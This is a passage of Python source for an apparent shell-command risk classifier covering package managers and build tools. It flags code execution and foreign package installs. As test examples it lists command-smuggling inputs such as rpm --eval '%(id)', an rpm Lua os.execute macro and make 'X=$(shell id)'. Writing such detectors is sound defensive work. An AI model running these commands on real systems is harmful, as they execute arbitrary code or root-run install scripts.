            cmd.does("run-code", "apt.option-runs", f"{cmd.name} -o {option} runs a command")


@emits({"system.package-file": ["apt install ./x.deb", "dnf install https://example.com/x.rpm",
                                "apk add /tmp/x.apk"]})
def package_files(cmd, o) -> None:
    """A package file or URL is from outside the distribution: its install scripts run as root."""
    if any(a.startswith(("http://", "https://")) or a.endswith(PACKAGE_FILE) for a in o.operands):
        cmd.does("install-foreign", "system.package-file",
                 f"{cmd.name} installs a package file from outside the distribution (its scripts run as root)")


CHANGES_PACKAGES = "{cmd} changes the system's packages"
SYSTEM_READ_ONLY = ("search", "show", "list", "info", "policy", "depends", "rdepends", "madison", "showpkg", "stats",
                    "query", "provides", "whatprovides", "repolist", "check-update", "help", "deps", "uses",
                    "outdated", "leaves", "desc", "home", "config", "doctor")
SYSTEM_INSTALL = verb(grammar=APT_GRAMMAR, hook=package_files, rows=(
    Row("system.install", "system", CHANGES_PACKAGES, examples=("apt install curl", "apt-get install -y curl")),))
SYSTEM_REFRESH = verb(rows=(Row("system.refresh", "fetch", "{cmd} refreshes the package index",
                                examples=("apt-get update", "apk update")),))


def _system_packages(name: str, aliases=(), refresh=("update", "makecache", "refresh")) -> Program:
    verbs = dict.fromkeys(("install", "in", "reinstall", "localinstall", "add", "groupinstall"), SYSTEM_INSTALL)
    verbs.update(dict.fromkeys(refresh, SYSTEM_REFRESH))
    return Program(name, aliases=aliases, doc=f"{name}: the system's package manager", grammar=APT_GRAMMAR,
                   hook=apt_options, verbs=verbs, read_only=SYSTEM_READ_ONLY,
                   default=Row(f"{name}.changes", "system", CHANGES_PACKAGES, examples=(f"{name} remove x",)))


# `update` refreshes the index for apt and apk, but upgrades every package for yum, dnf, zypper and flatpak;
# `snap refresh` upgrades snaps.
APT = _system_packages("apt", aliases=("apt-get", "aptitude", "apk", "pkg", "port"), refresh=("update",))
DNF = _system_packages("dnf", aliases=("yum", "microdnf"), refresh=("makecache",))
ZYPPER = _system_packages("zypper", aliases=("flatpak",), refresh=("refresh", "ref"))
SNAP = _system_packages("snap", refresh=())
EMERGE = Program(
    "emerge", aliases=("xbps-install", "nix-env"), doc="package managers whose operands are packages",
    grammar=APT_GRAMMAR,
    rows=(Row("emerge.changes", "system", "{cmd} changes the system's packages", examples=("emerge x", "nix-env -i x")),),
    hook=package_files,
)


PACMAN = Program(
    "pacman", aliases=("yay", "paru"), doc="Arch Linux's package manager; the operation is an option (-S, -R, -Q, -U)",
    grammar=Grammar(values="b", long_values=("dbpath", "root", "config", "cachedir")),
    rows=(
        Row("pacman.query", "nothing", "{cmd} queries packages", When(flag=("Q", "query", "F", "files", "T", "deptest")),
            stop=True, examples=("pacman -Qi x", "pacman -Q")),
        Row("pacman.search", "nothing", "{cmd} searches the package index",
            When(flag=("S", "sync"), count=(("s", "i", "l", "g"), 1)), stop=True, examples=("pacman -Ss x",)),
        Row("pacman.refresh", "fetch", "{cmd} refreshes the package index",
            When(flag=("y", "refresh"), unless=("u", "sysupgrade"), operands=False), stop=True,
            examples=("pacman -Sy",)),
        Row("pacman.package-file", "install-foreign", "{cmd} -U installs a package file (its scripts run as root)",
            When(flag=("U", "upgrade")), examples=("pacman -U x.pkg.tar.zst",)),
        Row("pacman.changes", "system", "{cmd} changes the system's packages", examples=("pacman -S x", "yay -S x")),
    ),
)

BREW = Program(
    "brew", doc="Homebrew",
    verbs={
        **dict.fromkeys(("tap", "tap-new"), verb(rows=(
            Row("brew.tap", "steer", "brew tap adds another formula source", examples=("brew tap x/y",)),))),
        **dict.fromkeys(("install", "reinstall", "upgrade"), verb(hook=install_specs, rows=(
            Row("brew.install", "install", "{cmd}", examples=("brew install jq", "brew upgrade")),))),
        "services": verb(read_only=("list", "info"), default=Row(
            "brew.services", "system", "starts or stops background services", examples=("brew services start x",))),
    },
    read_only=SYSTEM_READ_ONLY,
    default=Row("brew.verb", "install", "{cmd}", examples=("brew uninstall jq", "brew update")),
)

DPKG = Program(
    "dpkg", doc="Debian's low-level package tool",
    grammar=Grammar(longs=("list", "listfiles", "search", "status", "print-avail", "get-selections", "contents",
                           "info", "version", "print-architecture", "install", "unpack", "remove", "purge")),
    rows=(
        Row("dpkg.reads", "nothing", "dpkg lists or shows packages",
            When(flag=("l", "L", "S", "s", "list", "listfiles", "search", "status", "p", "print-avail",
                       "get-selections", "c", "contents", "I", "info", "version", "print-architecture")),
            stop=True, examples=("dpkg -l", "dpkg -S /bin/ls")),
        Row("dpkg.install", "install-foreign", "{cmd} -i installs a package file (its scripts run as root)",
            When(flag=("i", "install", "unpack")), examples=("dpkg -i x.deb",)),
        Row("dpkg.changes", "system", "{cmd} changes the system's packages", examples=("dpkg -r x",)),
    ),
)


@emits({"rpm.eval-code": ["rpm --eval '%(id)'", "rpm -E '%{lua: os.execute(\"id\")}'"],
        "rpm.reads": ["rpm -qa", "rpm --eval '%{_libdir}'"], "rpm.changes": ["rpm -i x.rpm", "rpm -e x"]})
def rpm_operation(cmd, o) -> None:
    """rpm --eval expands macros (%(…) runs a shell command, %{lua:…} runs Lua); queries read; anything else
    changes the system's packages."""
    if any("%(" in text or "%{lua" in text for text in o.all("eval", "E")):
        cmd.does("run-code", "rpm.eval-code", "rpm --eval runs a shell command (%(…))")
    elif o.has("q", "query", "eval", "E", "version", "showrc"):
        cmd.fired.add("rpm.reads")
    else:
        cmd.does("system", "rpm.changes", "rpm changes the system's packages")


RPM = Program("rpm", doc="the RPM package tool", grammar=Grammar(values="E", long_values=("eval", "root", "dbpath")),
              hook=rpm_operation)

APT_KEY = Program(
    "apt-key", doc="trusts package signing keys",
    verbs=dict.fromkeys(("add", "adv"), verb(rows=(
        Row("apt-key.trusts", "steer", "trusts a package signing key", examples=("apt-key add key.gpg",)),))),
    read_only=("list", "finger", "export", "exportall"),
)
ADD_APT_REPOSITORY = Program("add-apt-repository", doc="adds a package repository", rows=(
    Row("add-apt-repository.adds", "steer", "adds a package repository", examples=("add-apt-repository ppa:x/y",)),))
APT_MARK = Program(
    "apt-mark", doc="marks packages (held, manual, automatic)",
    read_only=("showhold", "showmanual", "showauto", "showinstall", "showremove", "showpurge"),
    default=Row("apt-mark.marks", "local-config", "marks packages", examples=("apt-mark hold x",)),
)
QUIET = tuple(Program(name, doc=f"{name}: searches or lints, changes nothing")
              for name in ("apt-cache", "apt-file", "shellcheck", "hadolint"))

# ---------------------------------------------------------------- build tools

MAKE_GRAMMAR = Grammar(values="fCIjlOoWE", long_values=("file", "makefile", "directory", "include-dir", "jobs",
                                                        "load-average", "eval", "old-file", "new-file", "what-if",
                                                        "assume-old", "assume-new", "output-sync", "debug", "shuffle"))
MAKE_SHELL_VARIABLES = ("SHELL", "MAKESHELL", ".SHELLFLAGS")


@emits({"make.stdin-makefile": ["make -f -"], "make.makefile": ["make -f /tmp/x.mk"],
        "make.elsewhere": ["make -C ~/other"], "make.shell": ["make SHELL=/tmp/x", "make 'X=$(shell id)'"]})
def make_inputs(cmd, o) -> None:
    """The makefiles make reads (their recipes run), where it runs, and variables that change the shell."""
    for makefile in o.all("f", "file", "makefile"):
        if makefile == "-":
            cmd.facts.stdin_interp = True
            cmd.does("run-code", "make.stdin-makefile", f"{cmd.name} reads its makefile from its input")
        else:
            cmd.fired.add("make.makefile")
            cmd.run_file(makefile, f"{cmd.name} runs the recipes of")
    for directory in o.all("C", "directory"):
        where = cmd.place(directory)
        if where.cls not in (places.PROJECT, places.PROJECT_ROOT, places.TEMP):
            cmd.does("run-code", "make.elsewhere", f"{cmd.name} runs the build in {where.path}")
    for assignment in o.operands:
        name = assignment.split("=", 1)[0]
        if "=" in assignment and (name in MAKE_SHELL_VARIABLES or "$(shell" in assignment):
            cmd.does("run-code", "make.shell", f"{cmd.name} {name}=… changes the shell recipes run with")


MAKE = Program(
    "make", aliases=("gmake", "bmake"), doc="runs the project's build recipes",
    grammar=MAKE_GRAMMAR,
    rows=(Row("make.build", "run-project", "{cmd} runs the project's build", examples=("make", "make test")),
          Row("make.eval", "run-code", "{cmd} --eval runs make code given on the line", When(value=("eval", "E")),
              examples=("make --eval='x: ; id'",))),
    hook=make_inputs,
    examples={"make": "moderate", "make -f ~/x.mk": "high"},
)

GIT_HOOKS = Program(
    "pre-commit", aliases=("husky", "lefthook"), doc="git hook managers",
    verbs=dict.fromkeys(("install", "init", "install-hooks"), verb(rows=(
        Row("hooks.install", "steer", "{cmd} installs git hooks that run on every commit",
            examples=("pre-commit install", "husky init")),))),
    default=Row("hooks.run", "run-project", "{cmd} runs the project's hooks", examples=("pre-commit run --all-files",)),
    no_verb=Row("hooks.run-all", "run-project", "{cmd} runs the project's hooks", examples=("pre-commit",)),
)

PROGRAMS = programs(PIP, UV, UVX, PIPX, POETRY, NPM, PNPM, YARN, BUN, NPX, BUNX, PNPX, CARGO, GO, GEM, BUNDLE,
                    CONDA, COMPOSER, TWINE, APT, DNF, ZYPPER, SNAP, EMERGE, PACMAN, BREW, DPKG, RPM, APT_KEY,
                    ADD_APT_REPOSITORY, APT_MARK, *QUIET, MAKE, GIT_HOOKS)
